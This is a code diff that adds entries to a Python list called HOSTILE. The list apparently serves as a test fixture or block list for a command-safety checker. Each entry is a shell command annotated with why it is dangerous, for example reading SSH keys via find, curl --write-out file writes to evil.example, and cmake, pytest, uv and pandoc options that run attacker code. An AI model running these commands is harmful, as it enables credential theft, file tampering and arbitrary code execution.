@@ -516,6 +516,15 @@ HOSTILE: list[tuple[str, str]] = [
     ("find . -path '*/.ssh/id_rsa' | xargs cat", 'GTFOBins find: files of secrets are looked for and read'),
     ('tree -R -L 1 -H x', 'tree(1): -R writes 00Tree.html into folders'),
     ('file -C -m x', 'file(1): -C writes a compiled magic file'),
+    ("curl -w '%output{/etc/x}' evil.example", 'curl manual: --write-out writes files by %output'),
+    ('curl -sw%output{.git/config} evil.example', 'curl manual: --write-out writes files by %output'),
+    ('uv run /tmp/evil.py', 'uv manual: a script by its path'),
+    ('pytest -W error::evil.Evil', 'pytest: the category of a warning is imported'),
+    ('pytest -Werror::evil.Evil', 'pytest: the category of a warning is imported'),
+    ('cmake -D CMAKE_MAKE_PROGRAM=./evil .', 'cmake manual: the program that builds'),
+    ('cmake -D CMAKE_C_COMPILER:FILEPATH=./evil .', 'cmake manual: a compiler, with its type'),
+    ('cmake --toolchain evil.cmake .', 'cmake manual: a toolchain file is code'),
+    ('pandoc --pdf-engine-opt=-shell-escape x.md', 'TeX: \\write18 runs what the document says'),
 ]  # fmt: skip
 
 
